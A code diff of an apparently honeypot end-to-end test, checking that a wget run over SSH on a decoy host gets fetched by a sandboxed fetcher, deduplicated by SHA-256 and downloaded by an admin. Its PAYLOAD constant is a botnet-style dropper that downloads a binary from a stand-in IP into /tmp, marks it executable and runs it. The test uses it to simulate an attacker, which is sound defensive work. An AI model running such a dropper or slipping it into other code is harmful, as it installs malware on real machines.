@@ -1,28 +1,18 @@
-import { execFile } from 'node:child_process'
 import { createHash } from 'node:crypto'
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { promisify } from 'node:util'
-import { sshpassArgs } from '../../../packages/decoys/test/support/ssh-client.ts'
+import { sshpassCommand } from '../../fixtures/attacker.ts'
 import { signInAdmin } from '../../fixtures/auth.ts'
 import { docker } from '../../fixtures/docker.ts'
 import { expect, test } from '../../fixtures/stack.ts'
 import { adminSession, waitTerminal } from '../../fixtures/ui-helpers.ts'
 
-const run = promisify(execFile)
 const PASSWORD = 'Artifact-Root-Login-31'
 const PAYLOAD = '#!/bin/sh\ncd /tmp || cd /var/run; wget http://198.51.100.7/x86 -O .x; chmod +x .x; ./.x\n'
 const sha256 = (text: string) => createHash('sha256').update(text).digest('hex')
 
-/** Debian's OpenSSH client running one command (no pty, as bots do); resolves with stdout + stderr. */
-async function sshCommand(ip: string, command: string): Promise<string> {
-  const { stdout, stderr } = await run(
-    'sshpass',
-    sshpassArgs({ address: ip, password: PASSWORD, command, quiet: true }),
-    { timeout: 60_000 },
-  )
-  return stdout + stderr
-}
+/** Debian's OpenSSH client on the decky (sshpass), as root. */
+const sshCommand = (ip: string, command: string) => sshpassCommand(ip, PASSWORD, command)
 
 test('artifacts: wget on a decky is fetched by the sandboxed fetcher, kept once by SHA-256, and an admin downloads it from the console', async ({
   page,
